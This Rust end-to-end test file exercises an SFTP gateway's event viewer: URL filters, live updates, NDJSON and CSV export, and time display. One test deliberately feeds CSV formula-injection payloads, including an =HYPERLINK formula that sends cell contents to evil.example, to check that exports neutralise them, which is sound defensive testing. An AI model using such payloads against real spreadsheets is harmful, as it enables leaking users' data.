//! Events: filtered, shared by their address, followed live, exported.

use std::fs;

use chrono::{DateTime, FixedOffset, Utc};
use serde_json::json;

use crate::old::{event, place_with};
use crate::place::Place;
use crate::support::process::LIMIT;
use crate::support::sftp::Sftp;

/// What the first row says.
const FIRST: &str = ".list.events .rows .row";

#[test]
fn a_filter_stands_in_the_address_and_shows_the_same_elsewhere() {
    let place = Place::start();
    let mut alice = Sftp::connect(&place.alice, LIMIT);
    alice.put("/orders.csv", b"content");
    alice.put("/notes.txt", b"content");
    drop(alice);
    place.gateway.events.await_disconnected(1);
    let browser = place.browser();
    browser.click("#bar nav a[href='/events']");
    browser.await_text(FIRST, "Disconnected");
    browser.click(".segments a[data-view=files]");
    browser.fill("input[name=path]", "/*.csv");
    browser.keys(crate::browser::ENTER);
    browser.await_text(".tools", "All 2");
    let rows = browser.await_text(FIRST, "/orders.csv");
    assert!(rows.contains("Uploaded") && !rows.contains("notes"), "{rows}");
    let address = browser.address();
    assert!(address.ends_with("/events?view=files&path=%2F*.csv"), "{address}");
    let other = place.browser();
    other.open(&address);
    assert_eq!(other.await_text(FIRST, "/orders.csv"), rows);
    other.await_text("summary", "Filters: path /*.csv");
    // One type of them.
    browser.script(
        "const type = document.querySelector('select[name=activity]');
         type.value = 'CLOSE';
         type.dispatchEvent(new Event('change', { bubbles: true }))",
    );
    browser.await_text(".tools", "All 1");
    assert!(browser.address().contains("activity=CLOSE"), "{}", browser.address());
    browser.script("history.back()");
    browser.await_text(".tools", "All 2");
    // A text anywhere, and back.
    browser.fill("input[name=path]", "");
    browser.fill("input[name=text]", "NOTES");
    browser.keys(crate::browser::ENTER);
    browser.await_text(FIRST, "/notes.txt");
    browser.script("history.back()");
    browser.script("history.back()");
    browser.await_text(FIRST, "/orders.csv");
    place.assert_clean(&browser);
}

#[test]
fn live_events_come_by_themselves_and_wait_while_somebody_reads() {
    let place = Place::start();
    let browser = place.browser();
    place.open(&browser, "/events?view=files");
    browser.await_text(".tools", "No event fits.");
    let mut alice = Sftp::connect(&place.alice, LIMIT);
    alice.put("/first.csv", b"content");
    browser.await_text(FIRST, "/first.csv");
    // A row is open: what comes waits.
    browser.click(FIRST);
    browser.await_text(".details", "event-id");
    alice.put("/second.csv", b"content");
    browser.await_text(".fresh", "2 new events");
    assert!(!browser.await_text(FIRST, "/first.csv").contains("/second.csv"));
    browser.click(".fresh");
    browser.await_text(FIRST, "/second.csv");
    assert_eq!(browser.count(FIRST), 4, "each event is shown once");
    // Not live: nothing comes, and what came meanwhile comes when it is live again.
    browser.click("button.toggle");
    alice.put("/third.csv", b"content");
    place.gateway.events.await_event("CLOSE", |event| event["logical-path"] == "/third.csv");
    assert_eq!(browser.count(FIRST), 4);
    browser.click("button.toggle");
    browser.await_text(FIRST, "/third.csv");
    assert_eq!(browser.count(FIRST), 6);
    place.assert_clean(&browser);
}

#[test]
fn what_is_filtered_is_exported() {
    let place = Place::start();
    let mut alice = Sftp::connect(&place.alice, LIMIT);
    alice.put("/=1+1,\"x\".csv", b"content");
    alice.put("/b.csv", b"content");
    drop(alice);
    place.gateway.events.await_disconnected(1);
    let browser = place.browser();
    place.open(&browser, "/events?view=files");
    browser.await_text(".tools", "All 4");
    browser.click("button[aria-label='Export as NDJSON']");
    let lines = fs::read_to_string(browser.download(".ndjson")).unwrap();
    let trail = fs::read_to_string(place.trail()).unwrap();
    let mut expected: Vec<&str> =
        trail.lines().filter(|line| line.contains("\"CLOSE\"") || line.contains("\"OPEN\"")).collect();
    expected.reverse();
    assert_eq!(lines.lines().collect::<Vec<_>>(), expected, "the lines as they are, so that they verify");
    browser.click("button[aria-label='Export as CSV']");
    let table = fs::read_to_string(browser.download(".csv")).unwrap();
    assert_eq!(table.lines().count(), 5, "{table}");
    assert!(table.starts_with(r#""timestamp","activity-type","#), "{table}");
    assert!(table.contains("\"/=1+1,\"\"x\"\".csv\""), "{table}");
    // The API gives the same table.
    let query = "return fetch('/api/v1/events?activity=open,close&format=csv').then((answer) => answer.text())";
    assert_eq!(browser.script(query), table);
}

/// Names come from clients, of users who do not exist as well.
#[test]
fn no_cell_of_an_exported_table_is_computed_by_a_spreadsheet() {
    let began: DateTime<Utc> = "2026-01-01T08:00:00Z".parse().unwrap();
    let names =
        ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "plain", "a=b"];
    let lines = names.iter().enumerate().map(|(number, name)| {
        let more = json!({ "user": name, "source-ip": "192.0.2.7", "reason": "unknown-user", "message": name, "new-logical-path": name });
        event(began, number, "AUTH_FAILURE", more)
    });
    let lines: Vec<_> = lines.collect();
    let place = place_with(&lines);
    let client = place.gateway.keyless("=1+1");
    crate::support::process::run(client.command("sftp").arg(client.host())).failed();
    place.gateway.events.await_event("AUTH_FAILURE", |event| event["user"] == "=1+1");
    let browser = place.browser();
    place.open(&browser, "/events?view=logins");
    browser.await_text(".tools", &format!("All {}", names.len() + 1));
    browser.click("button[aria-label='Export as CSV']");
    let exported = fs::read_to_string(browser.download(".csv")).unwrap();
    let query =
        "return fetch('/api/v1/events?activity=connected,auth_failure&format=csv').then((answer) => answer.text())";
    assert_eq!(browser.script(query), exported, "the API and the page give the same table");
    let mut users = Vec::new();
    for row in csv::Reader::from_reader(exported.as_bytes()).records() {
        let row = row.unwrap();
        let is_computed = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
        assert!(!row.iter().any(is_computed), "{row:?}");
        users.push(row[3].to_owned());
    }
    let harmless =
        |name: &&str| if name.starts_with(char::is_alphabetic) { (*name).to_owned() } else { format!("'{name}") };
    let expected: Vec<String> = ["=1+1"].iter().chain(names.iter().rev()).map(harmless).collect();
    assert_eq!(users, expected);
    // The lines are the lines.
    browser.click("button[aria-label='Export as NDJSON']");
    let exported = fs::read_to_string(browser.download(".ndjson")).unwrap();
    assert_eq!(exported.lines().last(), Some(lines[0].to_string().as_str()));
}

#[test]
fn times_are_local_and_utc_on_hover() {
    let place = Place::start();
    let mut alice = Sftp::connect(&place.alice, LIMIT);
    alice.make_directory("/a").unwrap();
    let made = place.gateway.events.await_event("MKDIR", |_| true);
    let browser = place.browser();
    browser.timezone("Asia/Kolkata");
    let recorded = made["timestamp"].as_str().unwrap();
    let utc = format!("{} UTC", recorded.replace('T', " ").replace('Z', ""));
    let there: DateTime<FixedOffset> =
        DateTime::parse_from_rfc3339(recorded).unwrap().with_timezone(&FixedOffset::east_opt(19_800).unwrap());
    let times = |css: &str| {
        let script = format!(
            "const time = document.querySelector({});
             return [time.title, time.innerText, document.elementFromPoint(time.getBoundingClientRect().left + 2,
               time.getBoundingClientRect().top + 2).closest('[title]')?.title]",
            json!(css)
        );
        browser.script(&script)
    };
    place.open(&browser, "/events?activity=MKDIR");
    browser.await_text(FIRST, "Folder created");
    let shown = format!("{} {}", there.format("%m-%d"), there.format("%H:%M:%S%.3f"));
    assert_eq!(times(&format!("{FIRST} time")), json!([utc, shown, utc]));
    browser.click(FIRST);
    let details = browser.await_text(".details", "event-id");
    assert!(
        details.contains(&format!("{} here", there.format("%Y-%m-%d %H:%M:%S"))) && details.contains(&utc),
        "{details}"
    );
    browser.click(".details a[href^='/sessions/']");
    browser.await_text(".steps", "Folder created");
    let step = "return [...document.querySelectorAll('.steps .rows .row')].find((row) => row.innerText.includes('Folder')).querySelector('.time').title";
    assert_eq!(browser.script(step), json!(utc));
    place.open(&browser, "/partners/alice");
    browser.await_text(".attempts", "Logged in");
    let login = place.gateway.events.await_event("CONNECTED", |_| true);
    let title = times(".attempts time")[0].as_str().unwrap().to_owned();
    let recorded = login["timestamp"].as_str().unwrap();
    // A login is shown to the second.
    assert!(title.ends_with(" UTC") && title.starts_with(&recorded.replace('T', " ")[..19]), "{title}: {recorded}");
}

/// Nothing has come live yet, so that only what the page shows says how far it is.
#[test]
fn what_happened_while_nobody_looked_is_there_afterwards() {
    let place = Place::start();
    let mut alice = Sftp::connect(&place.alice, LIMIT);
    alice.make_directory("/before").unwrap();
    place.gateway.events.await_event("MKDIR", |_| true);
    let browser = place.browser();
    place.open(&browser, "/events?activity=MKDIR");
    browser.await_text(FIRST, "/before");
    let look = |is_hidden: bool| {
        browser.script(&format!(
            "Object.defineProperty(document, 'hidden', {{ configurable: true, get: () => {is_hidden} }});
             document.dispatchEvent(new Event('visibilitychange'))"
        ));
    };
    look(true);
    alice.make_directory("/meanwhile").unwrap();
    place.gateway.events.await_event("MKDIR", |event| event["logical-path"] == "/meanwhile");
    look(false);
    browser.await_text(FIRST, "/meanwhile");
    alice.make_directory("/after").unwrap();
    browser.await_text(FIRST, "/after");
    assert_eq!(browser.count(FIRST), 3, "each once");
    place.assert_clean(&browser);
}
